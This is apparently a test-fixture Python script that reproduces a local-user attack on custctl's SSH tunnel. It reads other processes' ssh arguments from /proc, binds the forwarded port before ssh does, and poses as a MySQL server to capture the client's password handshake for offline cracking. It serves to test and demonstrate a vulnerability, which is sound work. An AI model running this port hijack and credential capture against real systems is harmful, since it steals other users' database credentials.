# Another local user's attack on custctl's tunnel (issue 12, item 1), run by the test as the user
# `nobody`: watch every process's argv (world-readable in /proc) for an ssh to the bastion whose
# port is argv[1], take the local port of its `-L 127.0.0.1:PORT:...` forward before ssh does,
# and pose as a MySQL server that asks for mysql_native_password. Prints what it got, one line
# each: `listening PORT`, `connected`, `auth <hex of the client's handshake response>`.
import os
import socket
import struct
import sys
import time

bastion_port = sys.argv[1].encode()
deadline = time.monotonic() + 60


def forward_port():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"-p" and value == bastion_port and b"-L" in argv:
                forward = argv[argv.index(b"-L") + 1].decode()
                return int(forward.split(":")[1])
    return None


port = None
while port is None:
    if time.monotonic() > deadline:
        sys.exit("no ssh to the bastion appeared")
    port = forward_port()
    if port is None:
        time.sleep(0.005)

listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", port))
listener.listen(8)
print("listening", port, flush=True)


def packet(sequence, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([sequence]) + payload


def receive(conn, length):
    data = b""
    while len(data) < length:
        chunk = conn.recv(length - len(data))
        if not chunk:
            return None
        data += chunk
    return data


# Protocol 10 greeting: 20 bytes of scramble, mysql_native_password. Capabilities: LONG_PASSWORD,
# CONNECT_WITH_DB, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, MULTI_STATEMENTS,
# MULTI_RESULTS, PLUGIN_AUTH.
scramble = b"abcdefghijklmnopqrst"
capabilities = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000
greeting = (
    b"\x0a" + b"8.0.40\0" + struct.pack("<I", 7) + scramble[:8] + b"\0"
    + struct.pack("<H", capabilities & 0xFFFF) + b"\x21" + struct.pack("<H", 2)
    + struct.pack("<H", capabilities >> 16) + bytes([21]) + b"\0" * 10
    + scramble[8:] + b"\0" + b"mysql_native_password\0"
)

# Every connection gets the greeting; one that only probes the port (and closes) is skipped.
while True:
    listener.settimeout(max(deadline - time.monotonic(), 0.1))
    conn, _ = listener.accept()
    print("connected", flush=True)
    conn.settimeout(10)
    try:
        conn.sendall(packet(0, greeting))
        header = receive(conn, 4)
        body = header and receive(conn, int.from_bytes(header[:3], "little"))
    except OSError:
        body = None
    if body is None:
        conn.close()
        continue
    # The response holds the user name and the password's scramble: enough to test guesses
    # offline.
    print("auth", body.hex(), flush=True)
    conn.sendall(packet(2, b"\xff" + struct.pack("<H", 1045) + b"#28000" + b"Access denied"))
    conn.close()
    break
